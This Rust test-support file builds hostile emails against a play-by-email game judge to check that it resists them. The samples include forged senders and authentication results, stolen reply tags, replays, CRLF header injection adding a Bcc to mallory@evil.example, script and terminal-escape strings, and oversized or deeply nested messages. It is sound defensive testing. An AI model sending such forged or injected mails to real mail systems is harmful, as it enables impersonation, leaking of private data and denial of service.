//! The game that attacks are done to, and their mails.

use landfall::judge::Opening;
use landfall::store::MailState;

use super::{
    BORDER, GAME, MALLORY, code, disowned, forged, mail_of, raw, readers, results, server_says,
};
use crate::support::{JUDGE, Received, Table, new_world};

/// The Message-ID of the player's own answer, which a person may know in advance.
const OWN_ID: &str = "<my-next-mail@example.org>";

/// A game of Race in which the first player has played one order and is asked for the next.
pub(super) struct Scene {
    table: Table,
    pub(super) alice: &'static str,
    pub(super) bob: &'static str,
    /// The newest letter to Alice.
    letter: Received,
    /// Her order mail that was played, and the tag that it carried.
    old_mail: String,
    old_tag: String,
    /// How many letters and order sets there were before the attack.
    letters: usize,
    orders: usize,
}

const DRAWS: &str = r#"
nations = ["france", "spain"]
cards = ["b07", "c01"]
"#;

fn race(name: &str, players: usize) -> Opening {
    let mut opening = new_world(2, 3);
    opening.title = "race".to_owned();
    opening.name = name.to_owned();
    opening.draws = Some(DRAWS.to_owned());
    opening.players.truncate(players);
    opening
}

impl Scene {
    pub(super) fn new() -> Self {
        let mut table = Table::new();
        table.open(&race(GAME, 2));
        table.open(&race("race-2", 1));
        let (alice, bob) = (table.awaited(), table.waiting());
        let first = table.letter(alice);
        let order = table.reply(alice, &first, &code(&first));
        table.post(order.clone());
        assert_eq!((table.played(), table.awaited()), (1, alice));
        Self {
            letter: table.letter(alice),
            old_tag: first.reply_to,
            old_mail: order,
            letters: table.sent(),
            orders: table.played(),
            table,
            alice,
            bob,
        }
    }

    fn tag(&self) -> String {
        self.letter.reply_to.clone()
    }

    fn code(&self) -> String {
        code(&self.letter)
    }

    fn mail(&self, from: &str, to: &str, text: &str) -> Vec<u8> {
        mail_of(from, to, "", text).into_bytes()
    }

    /// A mail of the player with fields of her own.
    fn with(&self, fields: &str, text: &str) -> Vec<u8> {
        let (from, to) = (self.alice, self.tag());
        format!("{fields}From: {from}\r\nTo: {to}\r\n\r\n{text}\r\n").into_bytes()
    }

    /// A mail of the player below these fields.
    fn below(&self, fields: &str, to: &str) -> Vec<u8> {
        let from = format!("{fields}From: {}\r\n", self.alice);
        raw(&from, to, "", &self.code()).into_bytes()
    }

    fn parts(&self, parts: &str) -> Vec<u8> {
        self.with(
            "Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n",
            parts,
        )
    }

    pub(super) fn forged_from(&mut self) -> Vec<u8> {
        self.mail(self.alice, JUDGE, &self.code())
    }

    pub(super) fn made_up_tag(&mut self) -> Vec<u8> {
        self.mail(self.alice, &forged(&self.tag()), &self.code())
    }

    pub(super) fn disowned(&mut self) -> Vec<u8> {
        self.below(&disowned(), &self.tag())
    }

    /// A field below the line that the judge's own server wrote.
    pub(super) fn own_voucher(&mut self) -> Vec<u8> {
        let results = [BORDER, &results("dmarc=pass header.from=example.org")].concat();
        self.below(&results, JUDGE)
    }

    /// A voucher in the name of a mailbox, which the judge's own server repeats.
    pub(super) fn quoted_voucher(&mut self) -> Vec<u8> {
        let words = "spf=pass smtp.mailfrom=\"x; dkim=pass header.d=example.org \"@evil.example";
        self.below(&server_says(words), JUDGE)
    }

    pub(super) fn display_name(&mut self) -> Vec<u8> {
        let from = format!("\"{}\" <{MALLORY}>", self.alice);
        self.mail(&from, JUDGE, &self.code())
    }

    pub(super) fn two_senders(&mut self) -> Vec<u8> {
        let from = format!("{}, {MALLORY}", self.alice);
        self.mail(&from, &self.tag(), &self.code())
    }

    pub(super) fn group(&mut self) -> Vec<u8> {
        let from = format!("g: {};", self.alice);
        self.mail(&from, &self.tag(), &self.code())
    }

    pub(super) fn stolen_tag(&mut self) -> Vec<u8> {
        self.mail(MALLORY, &self.tag(), &self.code())
    }

    pub(super) fn stolen_show(&mut self) -> Vec<u8> {
        self.mail(MALLORY, &self.tag(), "SHOW")
    }

    pub(super) fn stolen_preview(&mut self) -> Vec<u8> {
        self.mail(MALLORY, &self.tag(), &format!("PREVIEW {}", self.code()))
    }

    pub(super) fn stolen_address(&mut self) -> Vec<u8> {
        self.mail(MALLORY, &self.tag(), &format!("ADDRESS {MALLORY}"))
    }

    /// The whole letter, quoted, with the tag at its foot.
    pub(super) fn forwarded(&mut self) -> Vec<u8> {
        let text = format!("{}\n\n{}", self.code(), self.letter.quoted());
        self.mail(MALLORY, JUDGE, &text.replace('\n', "\r\n"))
    }

    pub(super) fn other_seat(&mut self) -> Vec<u8> {
        self.mail(self.bob, &self.tag(), &self.code())
    }

    pub(super) fn renamed_tag(&mut self) -> Vec<u8> {
        let own = self.table.letter(self.bob).reply_to;
        let parts: Vec<&str> = own.splitn(3, '.').collect();
        let alices = self.tag();
        let seat = alices.split('.').nth(1).unwrap();
        let renamed = format!("{}.{seat}.{}", parts[0], parts[2]);
        self.mail(self.bob, &renamed, &self.code())
    }

    pub(super) fn made_up_confirm(&mut self) -> Vec<u8> {
        let to = "judge+confirm.sender.1.abcdefghij234567@play.example";
        self.mail(self.alice, to, "YES")
    }

    pub(super) fn many_tags(&mut self) -> Vec<u8> {
        let tags = format!("{},", forged(&self.tag())).repeat(10_000);
        self.mail(self.alice, &tags, &self.code())
    }

    pub(super) fn replayed(&mut self) -> Vec<u8> {
        self.old_mail.clone().into_bytes()
    }

    pub(super) fn renewed(&mut self) -> Vec<u8> {
        let renewed = self.old_mail.replace("2026 12:00", "2026 12:01");
        let renewed = renewed.replace("Message-ID: <", "Message-ID: <again.");
        assert_ne!(renewed, self.old_mail);
        renewed.into_bytes()
    }

    pub(super) fn old_letter(&mut self) -> Vec<u8> {
        self.mail(self.alice, &self.old_tag, &self.code())
    }

    pub(super) fn squatted(&mut self) -> Vec<u8> {
        let id = format!("Message-ID: {OWN_ID}\r\n");
        mail_of(MALLORY, JUDGE, &id, &self.code()).into_bytes()
    }

    pub(super) fn subject_fields(&mut self) -> Vec<u8> {
        let subject = "=?utf-8?q?x=0D=0ABcc=3A_mallory=40evil.example?=";
        self.with(&format!("Subject: {subject}\r\n"), "HELP")
    }

    pub(super) fn text_fields(&mut self) -> Vec<u8> {
        let fields = "Bcc: mallory@evil.example\r\nX-Evil: 1\r\n";
        self.with("Subject: x\r\n", &format!("{fields}\r\n{fields}"))
    }

    pub(super) fn id_fields(&mut self) -> Vec<u8> {
        let id = "Message-ID: <a\r\n\tBcc: mallory@evil.example\r\n\t@x>\r\n";
        self.with(&format!("Subject: x\r\n{id}"), "HELP")
    }

    pub(super) fn marked_order(&mut self) -> Vec<u8> {
        let text = "<script>alert(1)</script> \u{1b}[2J\u{7}\u{0}\u{9b}2J\u{202e}";
        self.with("Subject: x\r\n", text)
    }

    pub(super) fn marked_name(&mut self) -> Vec<u8> {
        let from = format!("\"<b>\u{1b}[2J\u{7}</b>\" <{MALLORY}>");
        self.mail(&from, JUDGE, "HELP")
    }

    pub(super) fn marked_luck(&mut self) -> Vec<u8> {
        self.mail(MALLORY, JUDGE, "JOIN race-2 LUCK <img src=x>\u{1b}[2J\u{7}")
    }

    pub(super) fn robot(&mut self) -> Vec<u8> {
        self.with("Auto-Submitted: auto-replied\r\n", &self.code())
    }

    pub(super) fn null_sender(&mut self) -> Vec<u8> {
        self.with("Return-Path: <>\r\n", &self.code())
    }

    pub(super) fn own_letter(&mut self) -> Vec<u8> {
        self.letter.bytes.clone()
    }

    pub(super) fn own_address(&mut self) -> Vec<u8> {
        self.mail(JUDGE, &self.tag(), &self.code())
    }

    pub(super) fn huge(&mut self) -> Vec<u8> {
        self.mail(self.alice, &self.tag(), &"x".repeat(30 << 20))
    }

    pub(super) fn many_parts(&mut self) -> Vec<u8> {
        self.parts(&"--b\n\n".repeat(200_000))
    }

    /// Parts in parts, each as short as it can be.
    pub(super) fn deep_parts(&mut self) -> Vec<u8> {
        let part =
            |end: String, n: u32| format!("--b{end}\nContent-Type:multipart/x;boundary=b{n:x}\n\n");
        let inside = (1..20_000).map(|n| part(format!("{n:x}"), n + 1));
        let rest: String = inside.collect();
        self.parts(&(part(String::new(), 1) + &rest))
    }

    pub(super) fn many_orders(&mut self) -> Vec<u8> {
        let orders = format!("{}\r\n", self.code()).repeat(100_000);
        self.mail(self.alice, &self.tag(), &orders)
    }

    /// Posts the mail of the attack, and returns its fate.
    pub(super) fn befall(&mut self, mail: Vec<u8>) -> (MailState, String) {
        self.table.post(mail);
        self.table.fate()
    }

    /// Lists who got letters since.
    pub(super) fn heard(&self) -> Vec<String> {
        let mut heard = readers(&self.table, self.letters);
        heard.dedup();
        heard
    }

    /// Lists all that must not be, whatever was done.
    pub(super) fn harm(&mut self) -> Vec<String> {
        let mut harm = Vec::new();
        if self.table.played() != self.orders {
            harm.push("an order was played".to_owned());
        }
        let hands = [self.alice, self.bob].map(|who| (who, hand(&self.table.letters(who)[0])));
        for letter in self.table.transport.all().iter().skip(self.letters) {
            let text = Received::new(&letter.bytes);
            for (owner, hand) in &hands {
                if letter.to != *owner && text.text.contains(hand) {
                    harm.push(format!("{} reads of {hand:?}", letter.to));
                }
            }
            harm.extend(strange_bytes(&letter.bytes));
        }
        harm.extend(self.cannot_go_on());
        harm
    }

    /// The player's own answer is played as if nothing had been.
    fn cannot_go_on(&mut self) -> Option<String> {
        let id = format!("Message-ID: {OWN_ID}\r\n");
        let own = mail_of(self.alice, &self.tag(), &id, &self.code());
        self.table.post(own);
        self.table.all_settled();
        let goes_on = self.table.played() == self.orders + 1;
        (!goes_on).then(|| format!("then the player's own order was {:?}", self.table.fate()))
    }
}

/// The id of the secret card in a letter.
fn hand(letter: &Received) -> String {
    let at = letter.text.split("1x card ").nth(1).expect("a card");
    let id = at.split('(').nth(1).and_then(|rest| rest.split(',').next());
    id.unwrap().split_whitespace().collect()
}

/// Fields that no letter has, and characters that no letter carries.
fn strange_bytes(letter: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(letter);
    let (head, _) = text.split_once("\r\n\r\n").unwrap();
    let mut strange = Vec::new();
    let fields = head.lines().filter_map(|line| line.split_once(':'));
    for (field, _) in fields {
        if ["bcc", "cc", "x-evil", "sender"].contains(&&*field.to_lowercase()) {
            strange.push(format!("a field {field} in {head}"));
        }
    }
    let drives = |c: char| c.is_control() && c != '\r' && c != '\n';
    let decoded = Received::new(letter);
    if head.chars().any(drives) || decoded.text.chars().any(drives) {
        strange.push(format!("control characters in {:?}", decoded.text));
    }
    strange
}
